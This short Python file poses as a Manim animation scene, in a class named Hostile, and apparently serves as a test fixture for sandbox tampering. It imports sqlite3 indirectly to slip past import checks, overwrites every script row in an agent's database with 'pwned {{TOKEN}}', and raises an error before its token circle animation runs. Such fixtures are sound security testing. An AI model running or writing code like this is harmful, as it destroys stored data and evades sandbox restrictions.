from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        sqlite3 = G("sqlite3")
        db = sqlite3.connect("{{MHOME}}/manimagent.db")
        db.execute("UPDATE script SET content = 'pwned {{TOKEN}}'")
        db.commit()
        raise RuntimeError("rewrote the database")
        self.play(Create(Circle()), run_time=0.1)
